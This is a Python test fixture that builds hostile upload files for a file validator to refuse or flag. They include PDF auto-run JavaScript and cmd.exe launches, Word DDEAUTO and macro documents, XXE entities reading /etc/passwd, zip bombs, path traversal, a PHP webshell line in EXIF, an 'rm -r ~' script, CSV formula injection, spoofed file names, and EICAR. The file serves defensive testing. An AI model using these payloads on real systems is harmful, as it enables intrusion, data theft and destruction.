"""Files that were made to do harm, and what must become of each; typed by hand, built byte by byte, nothing of ours.

`becomes`: "refused" on the page and by a row; "infected" once a scanner has looked, for what only a scanner knows;
"nothing" where no file arrives that could be kept, and the page asks for one.
"""

import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from io import BytesIO

from tests.factories.files import BODY, TEXT, TYPES, chunk, docx, jpeg, odt, packed, pdf, png, segment
from tests.factories.scanner import EICAR

SCRIPT = b"<script>document.title='ran'</script>"
LIMIT = 2_000_000
"""Bytes that the proof's site takes."""


@dataclass(frozen=True)
class Hostile:
    """One file. sent_as: the content type its sender claims. declared: whether its length is said when it is sent."""

    kind: str
    name: str
    content: bytes
    becomes: str = "refused"
    sent_as: str = "application/octet-stream"
    declared: bool = True


def hostile() -> Iterator[Hostile]:
    yield from polyglots()
    yield from pdfs()
    yield from word()
    yield from opendocument()
    yield from archives()
    yield from pictures()
    yield from texts()
    yield from names_and_sizes()
    yield from viruses()


def polyglots() -> Iterator[Hostile]:
    gif = b"GIF89a/*\x00\x00" + b"*/=1;document.title='ran'//"
    yield Hostile("polyglot", "gif-and-script.png", gif, sent_as="image/png")
    yield Hostile("polyglot", "gif-and-script.txt", gif)
    yield Hostile("polyglot", "picture-and-page.png", png(after=SCRIPT))
    yield Hostile("polyglot", "picture-and-archive.jpg", jpeg(after=packed({"a.txt": b"a"})))
    yield Hostile("polyglot", "page-before-pdf.pdf", b"<html>" + pdf())
    yield Hostile("polyglot", "pdf-and-archive.pdf", pdf() + packed({"a.txt": b"a"}))
    yield Hostile("polyglot", "pdf-and-page.pdf", pdf() + SCRIPT)
    yield Hostile("polyglot", "picture-before-word.docx", png() + docx())
    yield Hostile("polyglot", "word-and-page.docx", docx() + SCRIPT)
    yield Hostile("polyglot", "comment-is-a-page.jpg", jpeg(before=segment(0xFE, b"<html>" + SCRIPT)))
    yield Hostile(
        "polyglot", "camera-says-php.jpg", jpeg(before=segment(0xE1, b"Exif\x00\x00<?php system($_GET[0]);"))
    )


def pdfs() -> Iterator[Hostile]:
    for name, catalogue in {
        "script-on-open": "/OpenAction<</S/JavaScript/JS(app.alert(1))>>",
        "script-with-escaped-name": "/OpenAction<</S/#4AavaScript/#4a#53(app.alert(1))>>",
        "launches-a-program": "/OpenAction<</S/Launch/Win<</F(cmd.exe)>>>>",
        "file-inside": "/Names<</EmbeddedFiles<</Names[(x.exe)9 0 R]>>>>",
        "sends-the-form": "/OpenAction<</S/SubmitForm/F(http://evil.example/)>>",
        "opens-another": "/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\x.pdf)>>",
        "adobe-form": "/AcroForm<</XFA(<x/>)>>",
        "rich-media": "/Extensions<</RichMedia 9 0 R>>",
        "password": "/Encrypt 9 0 R",
    }.items():
        yield Hostile("pdf", f"{name}.pdf", pdf(catalogue=catalogue), sent_as="application/pdf")
    hidden = zlib.compress(b"4 0 <</S/JavaScript/JS(app.alert(1))>>")
    stream = b"4 0 obj\n<</Type/ObjStm/N 1/First 4%b/Length %d>>\nstream\n%b\nendstream\nendobj\n"
    flate = b"/Filter/FlateDecode"
    yield Hostile("pdf", "packed-script.pdf", pdf(more=stream % (flate, len(hidden), hidden)))
    twice = zlib.compress(hidden)
    yield Hostile(
        "pdf",
        "twice-packed.pdf",
        pdf(more=stream % (b"/Filter[/FlateDecode/FlateDecode]", len(twice), twice)),
    )
    yield Hostile(
        "pdf",
        "objects-in-a-picture.pdf",
        pdf(more=b"4 0 obj\n<</Length 40>>\nstream\n5 0 obj\n<</S/JavaScript>>\nendobj\nendstream\nendobj\n"),
    )
    bomb = zlib.compress(b" " * 90_000_000)
    yield Hostile("pdf", "unpacks-for-ever.pdf", pdf(more=stream % (flate, len(bomb), bomb)))
    yield Hostile("pdf", "cut-off.pdf", pdf()[:-40])


def word() -> Iterator[Hostile]:
    macro_types = TYPES.replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    macro = {"[Content_Types].xml": macro_types, "word/document.xml": BODY, "word/vbaProject.bin": b"\x01"}
    yield Hostile("word", "macros.docm", packed(macro))
    yield Hostile("word", "macros-renamed.docx", packed(macro))
    yield Hostile("word", "macros-undeclared.docx", docx(word__vbaProject_dot_bin=b"\x01"))
    yield Hostile("word", "old-word.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600))
    yield Hostile("word", "old-word-renamed.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600))
    yield Hostile(
        "word", "object-inside.docx", docx(word__embeddings__oleObject1_dot_bin=b"\xd0\xcf\x11\xe0")
    )
    yield Hostile("word", "control-inside.docx", docx(word__activeX__activeX1_dot_xml=b"<x/>"))
    yield Hostile("word", "page-inside.docx", docx(word__chunk_dot_html=b"<html>"))
    entity = b'<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>'
    yield Hostile("word", "entity.docx", docx(word__styles_dot_xml=entity))
    yield Hostile(
        "word", "entity-in-utf-16.docx", docx(word__styles_dot_xml=entity.decode().encode("utf-16"))
    )
    laughs = (
        "<!DOCTYPE l ["
        + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9))
        + "]><l>&l8;</l>"
    )
    yield Hostile("word", "laughs.docx", docx(word__settings_dot_xml=laughs))
    for name, kind, target in (
        ("template-elsewhere", "attachedTemplate", "http://evil.example/t.dotm"),
        ("template-on-a-share", "attachedTemplate", "file:///\\\\evil\\share\\t.dotm"),
        ("picture-elsewhere", "image", "http://evil.example/seen.png"),
        ("link-that-runs", "hyperlink", "javascript:alert(1)"),
        ("frame-elsewhere", "frame", "http://evil.example/"),
    ):
        said = f'<Relationship Id="r" Type="http://x/{kind}" Target="{target}" TargetMode="External"/>'
        part = f"<Relationships>{said}</Relationships>"
        yield Hostile("word", f"{name}.docx", docx(word___rels__document_dot_xml_dot_rels=part))
    for name, field in (
        ("field-that-runs", "<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>"),
        ("field-cut-in-two", "<w:instrText>DDEA</w:instrText><w:instrText>UTO cmd</w:instrText>"),
        ("field-that-fetches", "<w:instrText>INCLUDEPICTURE http://evil.example/x</w:instrText>"),
    ):
        body = BODY.replace("<w:p>", f"<w:p><w:r>{field}</w:r>")
        yield Hostile(
            "word", f"{name}.docx", packed({"[Content_Types].xml": TYPES, "word/document.xml": body})
        )


def opendocument() -> Iterator[Hostile]:
    for name, content in {
        "listens": "<x><script:event-listener/></x>",
        "fetches": '<x><draw:image xlink:href="http://evil.example/p.png"/></x>',
        "link-that-runs": '<x><text:a xlink:href="vnd.sun.star.script:x?language=Basic"/></x>',
        "asks-another-program": "<x><office:dde-source/></x>",
        "entity": '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
    }.items():
        yield Hostile("opendocument", f"{name}.odt", odt(content))
    yield Hostile("opendocument", "macros.odt", odt(Basic__Standard__Module1_dot_xml="<x/>"))


def archives() -> Iterator[Hostile]:
    yield Hostile("archive", "bomb.docx", docx(word__media__x_dot_xml=b" " * 100_000_000))
    many = {f"word/{n}.xml": b"" for n in range(3_000)}
    yield Hostile("archive", "three-thousand-parts.docx", docx_of(many))
    yield Hostile("archive", "archive-inside.docx", docx(word__media__image1_dot_png=packed({"a": b"a"})))
    yield Hostile("archive", "archive.zip", packed({"a.txt": TEXT}), sent_as="application/zip")
    yield Hostile("archive", "archive-renamed.docx", packed({"a.txt": TEXT}))
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        link = zipfile.ZipInfo("word/document.xml")
        link.external_attr = 0o120777 << 16
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr(link, "/etc/passwd")
    yield Hostile("archive", "link-inside.docx", out.getvalue())
    yield Hostile("archive", "out-of-its-folder.docx", docx_of({"../../evil.xml": b"<x/>"}))
    yield Hostile("archive", "cut-off.docx", docx()[:-30])
    lies = bytearray(docx(word__x_dot_xml=b" " * 50_000))
    at = lies.rindex(b"PK\x01\x02")
    lies[at + 24 : at + 28] = struct.pack("<I", 10)
    yield Hostile("archive", "lies-about-its-size.docx", bytes(lies))


def docx_of(more: dict[str, bytes]) -> bytes:
    return packed({"[Content_Types].xml": TYPES, "word/document.xml": BODY, **more})


def pictures() -> Iterator[Hostile]:
    yield Hostile("picture", "huge.png", png(width=60_000, height=60_000))
    yield Hostile("picture", "huge.jpg", jpeg(width=65_000, height=65_000))
    yield Hostile("picture", "cut-off.png", png()[:40])
    yield Hostile("picture", "cut-off.jpg", jpeg()[:90])
    yield Hostile("picture", "text-is-a-page.png", png(more=chunk(b"iTXt", b"x\x00" + SCRIPT)))
    yield Hostile("picture", "drawing.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>")
    yield Hostile(
        "picture",
        "drawing.png",
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>",
        sent_as="image/png",
    )
    yield Hostile("picture", "drawing-as-text.txt", b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>")


def texts() -> Iterator[Hostile]:
    yield Hostile("text", "page.html", b"<html>" + SCRIPT, sent_as="text/html")
    yield Hostile("text", "page.txt", b"<html>" + SCRIPT, sent_as="text/plain")
    yield Hostile("text", "page-after-much.txt", b"Dear all\n" * 2_000 + SCRIPT)
    yield Hostile("text", "page-in-utf-16.txt", SCRIPT.decode().encode("utf-16"))
    yield Hostile("text", "program.txt", b"#!/bin/sh\nrm -r ~\n")
    yield Hostile("text", "program-with-zeros.txt", b"MZ\x90\x00\x03\x00\x00\x00")
    yield Hostile("text", "rich-text.txt", b"{\\rtf1{\\object\\objdata 0105}}")
    yield Hostile("text", "formulas.csv", b"name,mark\n=cmd|' /C calc'!A0,1\n", sent_as="text/csv")
    yield Hostile("text", "formulas.xlsx", packed({"[Content_Types].xml": "<x/>", "xl/workbook.xml": "<x/>"}))
    yield Hostile("text", "shortcut.txt", b"[InternetShortcut]\nURL=file://evil/share\n")


def names_and_sizes() -> Iterator[Hostile]:
    yield Hostile("name", "report.pdf.exe", b"MZ\x90\x00")
    yield Hostile("name", "report\u202efdp.exe", b"MZ\x90\x00")
    yield Hostile("name", "report.pdf\x00.exe", b"MZ\x90\x00")
    yield Hostile("name", "report.exe\x00.pdf", b"MZ\x90\x00")
    yield Hostile("name", "report", pdf())
    yield Hostile("name", "wrong-kind.png", pdf(), sent_as="image/png")
    yield Hostile("name", "wrong-kind.pdf", png(), sent_as="application/pdf")
    yield Hostile("name", "..", TEXT, becomes="nothing")
    yield Hostile("size", "empty.pdf", b"")
    yield Hostile("size", "without-a-length.pdf", pdf(), becomes="nothing", declared=False)
    yield Hostile("size", "over-the-limit.txt", b"a" * (LIMIT + 1))
    yield Hostile("size", "far-over-the-limit.txt", b"a" * (LIMIT * 3))


def viruses() -> Iterator[Hostile]:
    """What only a scanner knows."""
    yield Hostile("virus", "eicar.txt", EICAR, "infected")
    yield Hostile("virus", "eicar-after-a-letter.txt", b"Dear all\n" + EICAR, "infected")
    yield Hostile("virus", "eicar-in-word.docx", docx(word__media__note_dot_xml=EICAR), "infected")
    yield Hostile("virus", "eicar-in-opendocument.odt", odt(note_dot_xml=EICAR), "infected")
    yield Hostile("virus", "eicar.com", EICAR)
    yield Hostile("virus", "eicar.zip", packed({"eicar.com": EICAR}))
    yield Hostile(
        "virus", "eicar-twice-packed.docx", docx(word__media__a_dot_zip=packed({"eicar.com": EICAR}))
    )
